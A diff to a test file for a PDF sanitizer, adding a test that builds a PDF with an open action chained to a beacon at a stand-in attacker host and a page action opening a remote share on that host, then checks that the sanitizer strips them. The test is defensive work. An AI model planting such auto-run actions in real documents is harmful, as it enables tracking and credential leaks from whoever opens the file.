@@ -2,6 +2,7 @@ import { PDFArray, PDFDict, PDFDocument, PDFName, PDFString } from '@cantoo/pdf-
 import { expect, test } from 'vitest'
 import { pdfReader } from '../pdf-reader/read-pdf.ts'
 import { reviewDocument } from '@tickmark/engine'
+import { dropActions } from './drop-actions.ts'
 import { pdfMarker } from './mark-pdf.ts'
 
 /** A signed draft with an XFA form. It runs a script or a program when it is opened, paged through or clicked. */
@@ -43,6 +44,20 @@ test('a marked copy has no active content, no invalid signature and no XFA form'
   for (const removed of ['app.alert', 'JavaScript', 'Launch', 'calc.exe', 'elsewhere', 'XFA', 'SigFlags', 'DocMDP', '/V '])
     expect(content).not.toContain(removed)
   for (const kept of ['working.csv', 'https://example.org', '/S /GoTo', '/FT /Sig']) expect(content).toContain(kept)
+})
+
+test('what runs after an open action, and on a page without a type, is removed', async () => {
+  const document = await PDFDocument.load(await activeDraft())
+  const { context, catalog } = document
+  const page = document.getPage(0)
+  const beacon = { S: 'URI', URI: PDFString.of('https://evil.example/beacon') }
+  catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'GoTo', D: [page.ref, 'Fit'], Next: beacon }))
+  page.node.delete(PDFName.of('Type'))
+  page.node.set(PDFName.of('AA'), context.obj({ O: { S: 'GoToR', F: PDFString.of('//evil.example/share.pdf') } }))
+  dropActions(document)
+  const content = document.context.enumerateIndirectObjects().map(([, object]) => object.toString())
+  expect(content.join()).not.toContain('evil.example')
+  expect(catalog.lookup(PDFName.of('OpenAction'), PDFArray).toString()).toContain('Fit')
 })
 
 test('an open action that only goes to a page, and a font named AA, stay', async () => {
